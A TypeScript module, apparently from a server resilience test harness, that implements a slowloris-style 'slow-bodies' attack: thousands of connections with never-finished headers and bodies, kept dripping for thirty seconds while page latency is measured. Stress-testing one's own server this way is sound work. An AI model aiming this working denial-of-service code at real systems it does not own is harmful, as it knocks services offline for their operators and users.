import { visitor } from "../visitor";
import type { Attack } from "./attack";
import { dial, type Dialled, statuses } from "./dial";

/** Of the files this process may open, some stay for everything else; more than this shows nothing new. */
const MOST = 6_000;
const SPARE = 500;
const AT_ONCE = 200;
const HELD_MS = 30_000;

const HALVES = [
  "",
  "GET /sign-in HTTP/1.1\r\nHost: localhost\r\nX-Half: ",
  "POST /api/trpc/account.signIn HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{",
  "POST /api/trpc/account.signIn HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n",
  "GET /api/health HTTP/1.1\r\nHost: localhost\r\n\r\n",
];

/** Thousands of connections that are idle, or whose header or body never ends, dripping for half a minute; a page is asked for all the while. */
export const slowBodies: Attack = {
  name: "slow-bodies",
  async strike({ origin }) {
    const count = Math.min(MOST, filesLimit() - SPARE);
    const all: Dialled[] = [];
    const drip = setInterval(() => { for (const { socket } of all) if (socket.writable) socket.write("x"); }, 5_000);
    const pages: number[] = [];
    const page = async () => {
      const person = visitor(origin, "");
      const { ms } = await person.page("/sign-in").finally(() => person.close());
      pages.push(ms);
    };
    try {
      for (let at = 0; at < count; at += AT_ONCE) {
        for (let n = 0; n < AT_ONCE; n += 1) all.push(dial(origin, HALVES[n % HALVES.length] ?? ""));
        await page();
      }
      for (let held = 0; held < HELD_MS; held += 1_000) {
        await new Promise((resolve) => setTimeout(resolve, 1_000));
        await page();
      }
      const kept = all.filter(({ socket }) => !socket.destroyed).length;
      return `${all.length} connections: ${statuses(all)}; ${kept} still open; ${pages.length} pages meanwhile, the longest in ${Math.round(Math.max(...pages))} ms`;
    } finally {
      clearInterval(drip);
      for (const { socket } of all) socket.destroy();
    }
  },
};

function filesLimit(): number {
  const { userLimits } = process.report.getReport() as { userLimits?: { open_files?: { soft: number | string } } };
  const soft = Number(userLimits?.open_files?.soft);
  return Number.isFinite(soft) ? soft : MOST + SPARE;
}
